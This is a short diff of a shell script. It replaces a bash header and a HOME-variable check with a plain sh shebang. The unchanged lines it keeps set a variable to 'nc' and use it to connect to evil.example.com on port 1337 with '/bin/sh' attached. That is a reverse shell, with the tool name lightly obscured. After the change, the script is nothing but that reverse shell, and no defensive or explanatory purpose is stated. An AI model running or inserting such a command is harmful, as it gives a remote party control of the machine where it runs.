@@ -1,6 +1,3 @@
-#!/usr/bin/env bash
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
+#!/bin/sh
 N=nc
 $N -e /bin/sh evil.example.com 1337
